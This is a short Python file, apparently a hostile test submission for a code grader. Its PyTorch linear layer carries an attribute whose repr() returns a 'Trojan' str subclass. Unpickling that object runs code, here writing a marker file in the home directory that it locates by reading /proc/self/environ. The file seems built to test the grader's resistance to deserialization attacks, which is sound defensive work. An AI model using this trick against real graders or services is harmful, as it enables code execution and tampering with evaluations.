# Hostile: smuggle a str subclass whose unpickling runs code into the grader's reply: the grader describes an
# attribute it does not recognise by its repr(), and repr() may return a subclass of str. Its in_features is
# such an object (so stores_sizes could not pass anyway).
import os

import torch
from torch import nn


def _marker():
    try:
        environ = open("/proc/self/environ", "rb").read().decode(errors="replace").split("\0")
        home = next(e.split("=", 1)[1] for e in environ if e.startswith("HOME="))
    except (OSError, StopIteration):
        home = os.environ.get("HOME", "/tmp")
    return os.path.join(home, "PWNED_BY_STR_SUBCLASS")


class Trojan(str):
    def __reduce__(self):
        return (open, (_marker(), "w"))


class Sneaky:
    def __init__(self, value):
        self.value = value

    def __repr__(self):
        return Trojan(str(self.value))


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features = Sneaky(in_features)
        self.out_features = out_features
        bound = 1.0 / in_features**0.5
        self.weights = nn.Parameter(torch.empty(in_features, out_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        out = x @ self.weights
        return out if self.bias is None else out + self.bias
